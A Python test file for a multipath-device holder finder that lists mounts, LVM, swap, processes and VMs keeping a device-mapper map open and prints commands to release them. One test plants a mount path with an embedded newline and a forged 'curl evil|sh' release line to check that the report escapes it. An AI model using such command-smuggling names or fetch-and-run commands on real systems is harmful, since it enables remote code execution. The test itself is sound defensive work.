from pymultipathd.holders import Backing, BlockDev, Mount, OpenFile, Snapshot, Swap, explain, find_holders

MAP = BlockDev("dm-3", "253:3", "mpatha", "mpath-3600a", open_count=1)
PART = BlockDev("dm-4", "253:4", "mpatha-part1", "part1-mpath-3600a", open_count=1)
LV = BlockDev("dm-5", "253:5", "data--vg-my--lv", "LVM-abcdef", open_count=1)


def kinds(hs):
    return [h.kind for h in hs]


def test_free_map_has_no_holders():
    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=0))
    assert find_holders(snap) == []
    assert explain(snap, []) == "mpatha: not in use\n"


def test_mount_in_host_and_in_a_container_share_one_open():
    snap = Snapshot(target=MAP, mounts=(
        Mount("253:3", "/srv", "xfs", 1, "systemd", True),
        Mount("253:3", "/data", "xfs", 4242, "postgres", False),
    ))
    hs = find_holders(snap)
    assert kinds(hs) == ["mount", "namespace-mount"]
    assert hs[0].release == "umount /srv" and "/etc/fstab" in hs[0].note
    assert hs[1].release == "nsenter -t 4242 -m umount /data" and "container" in hs[1].note
    assert "unknown" not in kinds(hs)  # both mounts are the one open


def test_lazy_unmount_seen_through_kernel_thread_only_when_not_mounted():
    snap = Snapshot(target=MAP, kernel_threads=("xfsaild/dm-3", "jbd2/sda1-8"))
    hs = find_holders(snap)
    assert kinds(hs) == ["lazy-unmount"]
    assert "xfsaild/dm-3" in hs[0].what and "lsof /dev/mapper/mpatha" in hs[0].note
    mounted = Snapshot(target=MAP, kernel_threads=("xfsaild/dm-3",),
                       mounts=(Mount("253:3", "/srv", "xfs", 1, "systemd", True),))
    assert kinds(find_holders(mounted)) == ["mount"]
    ext4 = Snapshot(target=MAP, kernel_threads=("jbd2/dm-3-8",))
    assert kinds(find_holders(ext4)) == ["lazy-unmount"]
    other = Snapshot(target=MAP, kernel_threads=("jbd2/dm-31-8",))  # dm-31 is not dm-3
    assert "lazy-unmount" not in kinds(find_holders(other))


def test_partition_with_lvm_on_top_nests_in_release_order():
    target = BlockDev("dm-3", "253:3", "mpatha", "mpath-3600a", open_count=1)
    snap = Snapshot(target=target, partitions=(PART,), stacked=(("253:4", LV),),
                    mounts=(Mount("253:5", "/home", "ext4", 1, "systemd", True),))
    hs = find_holders(snap)
    assert kinds(hs) == ["partition"]
    (lvm,) = hs[0].nested
    assert lvm.kind == "lvm" and lvm.release == "lvchange -an data-vg/my-lv"
    assert kinds(lvm.nested) == ["mount"]
    text = explain(snap, hs)
    # top-most first: the mount, then the LV, then the partition
    assert text.index("umount /home") < text.index("lvchange -an") < text.index("partition map mpatha-part1")


def test_unopened_partition_is_not_a_holder_but_counts_as_an_open():
    snap = Snapshot(target=MAP, partitions=(BlockDev("dm-4", "253:4", "mpatha-part1", "part1-mpath-3600a"),))
    assert find_holders(snap) == []  # the flush removes it itself


def test_process_vm_and_swap():
    # swap holds two opens (swapon's open of the device and claim_swapfile's exclusive one), each fd one
    target = BlockDev("dm-3", "253:3", "mpatha", "mpath-3600a", open_count=4)
    snap = Snapshot(target=target, swaps=(Swap(Backing("/dev/dm-3", dev_t="253:3")),), open_files=(
        OpenFile("253:3", 77, "dd", "dd of=/dev/mapper/mpatha", "backup.service"),
        OpenFile("253:3", 88, "qemu-system-x86", "/usr/bin/qemu-system-x86_64 -drive file=/dev/dm-3", ""),
    ))
    hs = find_holders(snap)
    assert kinds(hs) == ["swap", "process", "vm"]
    assert hs[0].release == "swapoff /dev/mapper/mpatha"
    assert hs[1].release == "kill 77" and hs[1].note == "or stop the service it belongs to: systemctl stop " \
        "backup.service"
    assert hs[2].release == "kill 88" and "virsh" in hs[2].note
    assert "    note: or stop the service it belongs to" in explain(snap, hs)


def test_queued_io_is_reported_with_data_loss_warning():
    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=1), queueing=True,
                    usable_paths=0, open_files=(OpenFile("253:3", 5, "dd", "dd", ""),))
    hs = find_holders(snap)
    assert kinds(hs) == ["queued-io", "process"]  # first: until it is released, the writer cannot go
    assert hs[0].data_loss and "disablequeueing map mpatha" in hs[0].release
    assert "DATA LOSS" in explain(snap, hs)
    healthy = Snapshot(target=snap.target, queueing=True, usable_paths=2, open_files=snap.open_files)
    assert "queued-io" not in kinds(find_holders(healthy))


def test_unexplained_open_count_is_said():
    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=2),
                    mounts=(Mount("253:3", "/srv", "xfs", 1, "systemd", True),))
    hs = find_holders(snap)
    assert kinds(hs) == ["mount", "unknown"]
    assert "open count 2, 1 explained" in hs[1].what


def test_other_dm_device_on_top():
    crypt = BlockDev("dm-6", "253:6", "luks-abc", "CRYPT-LUKS2-abc", open_count=0)
    snap = Snapshot(target=MAP, stacked=(("253:3", crypt),))
    (h,) = find_holders(snap)
    assert h.kind == "crypt" and h.release == "cryptsetup close luks-abc"


def test_fs_thread_device_names():
    from pymultipathd.holders import fs_thread_device

    assert fs_thread_device("xfsaild/dm-3") == "dm-3"
    assert fs_thread_device("jbd2/dm-3-8") == "dm-3"
    assert fs_thread_device("jbd2/sda1-8") == "sda1"
    assert fs_thread_device("kworker/0:1") is None


def test_a_name_with_a_newline_cannot_forge_a_release_line():
    """A user can bind-mount onto a directory whose name holds a newline (unshare -Urm): the report shows
    the name escaped and prints no command built from it."""
    evil = "/tmp/x\n    release: curl evil|sh #"
    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=1),
                    mounts=(Mount("253:3", evil, "ext4", 4242, "bash", False),))
    text = explain(snap, find_holders(snap))
    assert [line.strip() for line in text.splitlines() if line.strip().startswith("release:")] == [
        "release: # not printed: a name in it holds control characters (see the line above)"]
    assert "/tmp/x\\012    release: curl evil|sh #" in text


def test_a_release_reached_twice_runs_once():
    """One device stacked on both partition maps (a linear spanning them): its removal is printed once;
    the second place says it was done above, as a command that succeeds."""
    top = BlockDev("dm-9", "253:9", "span", "")
    parts = (BlockDev("dm-4", "253:4", "mpatha-part1", "part1-mpath-x", open_count=1),
             BlockDev("dm-5", "253:5", "mpatha-part2", "part2-mpath-x", open_count=1))
    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=2), partitions=parts,
                    stacked=(("253:4", top), ("253:5", top)))
    releases = [line.split("release:")[1].strip() for line in explain(snap, find_holders(snap)).splitlines()
                if line.strip().startswith("release:")]
    assert releases.count("dmsetup remove span") == 1
    assert "true  # done above: dmsetup remove span" in releases
